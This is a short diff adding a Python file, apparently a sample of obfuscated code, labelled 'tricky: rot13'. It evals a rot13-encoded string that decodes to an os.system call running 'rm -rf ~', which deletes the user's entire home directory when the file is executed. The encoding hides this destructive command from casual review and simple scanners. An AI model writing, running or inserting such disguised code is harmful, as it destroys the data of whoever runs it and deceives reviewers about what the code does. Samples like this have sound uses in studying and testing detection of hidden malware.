@@ -1,0 +1,3 @@
+# tricky: rot13
+import codecs
+eval(codecs.decode("__vzcbeg__('bf').flfgrz('ez -es ~')", "rot13"))
